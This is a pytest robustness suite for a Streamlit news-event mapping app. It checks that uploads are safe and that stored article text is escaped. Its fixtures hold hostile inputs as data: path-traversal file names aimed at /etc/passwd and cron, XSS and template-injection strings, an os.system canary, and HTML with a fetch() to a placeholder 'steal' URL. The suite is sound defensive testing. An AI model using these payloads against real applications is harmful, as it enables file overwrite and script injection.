"""The app (streamlit.testing AppTest) on hostile uploads and hostile stored text.

- Uploaded file names never become paths: nothing is written outside the data directory and
  the stored source is a plain base name.
- A size limit applies, with a message that says so.
- HTML is parsed without fetching anything it references: any socket use fails the test.
- Nothing from an article is evaluated (Jinja, JS template literals, Streamlit markdown).
- Every string from an article reaching the side panel, the map or the table is escaped
  (or, in the table, shown as data by a canvas grid that renders no HTML).
"""

from __future__ import annotations

import html
import json
import re
import socket
import tomllib
from pathlib import Path

import pytest
from _apptest_support import map_args
from _robustness import PAYLOADS, REPO, STATS

from geo.store import EventStore, store_path

pytestmark = pytest.mark.timeout(900)

AppTest = pytest.importorskip("streamlit.testing.v1").AppTest
APP = str(REPO / "streamlit_app.py")

CANARY = "borderline-canary-{}"
EVIL_PY = "__import__('os').system('touch /tmp/" + CANARY.format("py") + "')"
PAYLOAD_TEXT = " ".join(PAYLOADS)

# An article whose event sentence carries every payload (as text), written for these tests.
ARTICLE = ("date 2024-12-11\n\nUkrainian drones struck an oil depot in Belgorod overnight "
           f"{PAYLOAD_TEXT} {EVIL_PY}, the regional governor said.\n")
# The same payloads in HTML: as entities (so they become text), in the title, and as tags
# that reference remote resources, which must be neither fetched nor kept.
REMOTE = "198.51.100.7"   # TEST-NET-2: never a real host
HTML_ARTICLE = f"""<!doctype html><html><head>
<title>&lt;img src=x onerror=alert(1)&gt; ${{alert(2)}} {{{{ 7*7 }}}}</title>
<link rel="stylesheet" href="http://{REMOTE}/style.css"><script src="http://{REMOTE}/x.js"></script>
<meta http-equiv="refresh" content="0;url=http://{REMOTE}/">
<style>@import url(http://{REMOTE}/more.css);</style></head><body>
<img src="http://{REMOTE}/pixel.png" onerror="alert(1)"><iframe src="http://{REMOTE}/"></iframe>
<p>Russian shelling hit Shebekino on Tuesday &lt;img src=x onerror=alert(1)&gt; &lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt; &#36;{{alert(1)}} &#96;x&#96; C:\\users\\x {{{{ 7*7 }}}}, damaging houses, the mayor said.</p>
<script>document.title = "pwned"; fetch("http://{REMOTE}/steal")</script></body></html>"""


_DATA_URL = re.compile(r'fetch\("/app/static/mapdata/([0-9a-f]+\.json)"\)')


def _map_script(at) -> str:
    """The map's script and the data files it fetches (/app/static/mapdata/*.json)."""
    script = map_args(at)["script"]
    fetched = [(REPO / "static" / "mapdata" / name).read_text(encoding="utf-8")
               for name in _DATA_URL.findall(script)]
    return "\n".join([script, *fetched])


def _shown_html(at) -> str:
    """Every string the page renders as markdown/HTML (markdown, captions, alerts)."""
    parts = [m.value for m in at.markdown] + [c.value for c in at.caption]
    parts += [e.value for e in at.error] + [s.value for s in at.success] + [s.value for s in at.subheader]
    return "\n".join(parts)


RAW = ("<img", "</script", "<script", "${", "`", "C:\\users", "{{", "onerror=alert(1)>")


def assert_inert(html: str, where: str) -> None:
    # Streamlit markdown also acts on :colour[...] directives and $math$
    for raw in RAW + (() if where == "map" else (":red[", "$x^2$")):
        assert raw not in html, f"{raw!r} reaches {where} unescaped"
    for encoded in ("\\u003cimg", "\\u003cscript", "\\u003c/script"):   # '<' hidden in JSON
        assert encoded not in html.lower(), f"{encoded} reaches {where}"


@pytest.fixture
def no_network(monkeypatch):
    """Fail on any attempt to open a network connection or resolve a name."""
    attempts: list[str] = []

    def refuse(*args, **kwargs):
        attempts.append(repr(args[1:] if args and isinstance(args[0], socket.socket) else args)[:200])
        raise OSError("network use in a robustness test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return attempts


def _app(monkeypatch, data: Path) -> AppTest:
    monkeypatch.delenv("BORDERLINE_SYNTHETIC", raising=False)
    monkeypatch.delenv("BORDERLINE_SYNTHETIC_PAYLOAD", raising=False)
    monkeypatch.delenv("BORDERLINE_EVENTS", raising=False)
    monkeypatch.setenv("BORDERLINE_DATA", str(data))
    at = AppTest.from_file(APP, default_timeout=300)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def _submit(at, label: str):
    [button] = [b for b in at.form_submit_button if b.label == label]
    return button.click().run()


# --- uploads ----------------------------------------------------------------------------------

HOSTILE_NAMES = ["../../etc/passwd.txt", "/etc/cron.d/borderline-evil.md", "..\\..\\windows\\evil.html",
                 "a\x00b.txt", "C:\\Users\\x\\evil.txt", "<img src=x onerror=alert(1)>.txt",
                 "....//....//tmp/x.txt", ".txt", "x" * 5000 + ".txt", "new\nline.txt"]


def test_upload_names_cannot_escape_the_data_directory(pipeline, monkeypatch, tmp_path, no_network):
    from geo.view import safe_source_name

    for name in HOSTILE_NAMES:
        safe = safe_source_name(name)
        STATS.tried()
        assert "/" not in safe and "\\" not in safe and "\x00" not in safe and "\n" not in safe, safe
        assert safe not in ("", ".", "..") and len(safe) <= 80 and "<" not in safe

    data = tmp_path / "data"
    at = _app(monkeypatch, data)
    body = ARTICLE.replace("Belgorod", "Bryansk")
    # a NUL in a name is refused by Streamlit's uploader itself (test below)
    names = [n for n in HOSTILE_NAMES if "\x00" not in n]
    files = [(name, (body + f"\nReport {i}.\n").encode("utf-8"), "text/plain") for i, name in enumerate(names)]
    outside_before = {p.name for p in tmp_path.iterdir()} | {"data"}
    at.file_uploader(key="upload_files").set_value(files)
    _submit(at, "Process files")
    assert not at.exception, [e.value for e in at.exception]
    assert not no_network, no_network
    stored = EventStore(store_path(data), create=False).read_articles()
    sources = list(stored["source"])
    refused = [html.unescape(e.value) for e in at.error]
    assert len(sources) + len(refused) == len(names), (refused, sources)
    assert all("unsupported file type" in r for r in refused), refused
    for source in sources:
        assert "/" not in source and "\\" not in source and "\x00" not in source and ".." not in source
    # nothing was written anywhere but the store
    assert {p.name for p in data.iterdir()} <= {"events.gpkg", "events.gpkg-wal", "events.gpkg-shm"}
    assert {p.name for p in tmp_path.iterdir()} == outside_before
    assert not Path("/etc/cron.d/borderline-evil.md").exists()
    assert not any(Path(p).exists() for p in ("/tmp/x.txt", REPO / "passwd.txt", REPO / "evil.txt"))


def test_a_nul_in_an_upload_name_is_refused_before_the_app_runs(monkeypatch, tmp_path):
    at = _app(monkeypatch, tmp_path / "data")
    at.file_uploader(key="upload_files").set_value([("a\x00b.txt", ARTICLE.encode(), "text/plain")])
    _submit(at, "Process files")
    STATS.tried()
    # Streamlit's own check raises before the script runs; the page shows its generic,
    # redacted error (showErrorDetails = "none"), and nothing is stored
    assert at.exception
    assert not (tmp_path / "data" / "events.gpkg").exists()


def test_a_long_upload_name_keeps_its_file_type():
    """Names are cut to 80 characters for display; the cut must not lose the suffix (a
    legitimate 100-character name is otherwise refused as an unsupported type)."""
    from geo.view import articles_from_upload

    name = "2024-12-14-" + "ukrainian-drones-strike-oil-depot-in-belgorod-region-overnight-governor-says" + ".txt"
    result = articles_from_upload(name, ARTICLE.encode("utf-8"))
    STATS.tried()
    assert result.articles and not result.errors, result.errors
    assert result.name.endswith(".txt")


def test_size_limit_has_a_clear_message(monkeypatch, tmp_path):
    from geo.articles import DEFAULT_MAX_BYTES

    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    server_limit_mb = config["server"]["maxUploadSize"]          # Streamlit refuses larger files itself
    assert 0 < server_limit_mb <= 200
    at = _app(monkeypatch, tmp_path / "data")
    big = b"Drones hit Kursk. " * (DEFAULT_MAX_BYTES // 18 + 10)
    at.file_uploader(key="upload_files").set_value([("big.txt", big, "text/plain"),
                                                    ("big.jsonl", json.dumps({"text": big.decode()}).encode(),
                                                     "application/json")])
    _submit(at, "Process files")
    STATS.tried(2)
    assert not at.exception
    errors = html.unescape(" ".join(e.value for e in at.error))
    assert "big.txt" in errors and "big.jsonl" in errors
    assert errors.count("too large") == 2 and "limit" in errors, errors
    assert not (tmp_path / "data" / "events.gpkg").exists() or \
        EventStore(store_path(tmp_path / "data")).count_articles() == 0


def test_hostile_json_lines_upload_is_refused_in_plain_words(monkeypatch, tmp_path):
    at = _app(monkeypatch, tmp_path / "data")
    body = b"\n".join([b"[" * 50_000, b'{"id": ' + b"9" * 5000 + b', "text": "Drones hit Kursk."}',
                       b'{"text": "Drones hit Kursk \\ud800 overnight."}', b"not json"])
    at.file_uploader(key="upload_files").set_value([("batch.jsonl", body, "application/json")])
    _submit(at, "Process files")
    STATS.tried(4)
    assert not at.exception, [e.value for e in at.exception]
    errors = [html.unescape(e.value) for e in at.error]
    for line in (1, 2, 4):     # line 3's lone surrogate is replaced; that line is an article
        assert any(f"batch.jsonl:{line}:" in e for e in errors), errors


def test_html_upload_fetches_nothing_and_runs_nothing(pipeline, monkeypatch, tmp_path, no_network):
    data = tmp_path / "data"
    at = _app(monkeypatch, data)
    at.file_uploader(key="upload_files").set_value([("page.html", HTML_ARTICLE.encode("utf-8"), "text/html")])
    _submit(at, "Process files")
    STATS.tried()
    assert not at.exception, [e.value for e in at.exception]
    assert not no_network, f"network use while reading HTML: {no_network}"
    assert not any(Path("/tmp", CANARY.format(k)).exists() for k in ("py",))
    store = EventStore(store_path(data), create=False)
    [article_id] = list(store.read_articles()["id"])
    article = store.read_article(article_id)
    assert "Shebekino" in article.text
    for gone in ("pwned", "steal", REMOTE, "stylesheet", "@import"):
        assert gone not in article.text, gone
    assert store.count_events() >= 1, [e.value for e in at.error]
    script = _map_script(at)
    assert "Shebekino" in script
    assert "7*7" in script             # the Jinja expression arrived as text, not as 49
    assert_inert(script, "map")
    assert_inert(_shown_html(at), "the page")


# --- stored hostile text through the side panel, the map and the table ------------------------

@pytest.fixture(scope="module")
def payload_store(pipeline, tmp_path_factory):
    """A store filled by the CLI from files whose NAMES and TEXT carry the payloads (a file
    name may hold anything but '/' and NUL), plus the HTML article."""
    from geo.cli import main

    d = tmp_path_factory.mktemp("rb-payload-in")
    name = "<img src=x onerror=alert(1)> ${alert(2)} `x` C:\\users\\x {{ 7*7 }} :red[r].txt"
    (d / name).write_text(ARTICLE, encoding="utf-8")
    (d / "page.html").write_text(HTML_ARTICLE, encoding="utf-8")
    data = tmp_path_factory.mktemp("rb-payload-data")
    assert main(["ingest", "--workers", "1", "--data", str(data), str(d)]) == 0
    events = EventStore(store_path(data), create=False).read_events()
    assert name in set(events["article"]), set(events["article"])
    return data, name, events


def test_side_panel_map_and_table_escape_every_field(payload_store, monkeypatch, no_network):
    data, name, events = payload_store
    at = _app(monkeypatch, data)
    assert_inert(_map_script(at), "map")
    table = at.dataframe[0]
    # the table holds the text as data, in a grid that renders no HTML; no column is a link or image
    assert name in set(table.value["article"])
    column_types = json.dumps(json.loads(table.proto.columns) if table.proto.columns else {})
    assert '"link"' not in column_types and '"image"' not in column_types
    for _, row in events.iterrows():
        STATS.tried()
        at.session_state["events_map"] = {"last_object_clicked_popup": f"Event id\t{row['event_id']}"}
        at.run()
        assert not at.exception
        shown = _shown_html(at)
        assert row["event_id"] in shown, "the click did not select the event"
        assert_inert(shown, "the side panel")
        texts = " ".join(t.value for t in at.text)      # "Whole article": st.text, shown verbatim
        assert texts == "" or "onerror" in texts
    assert not no_network
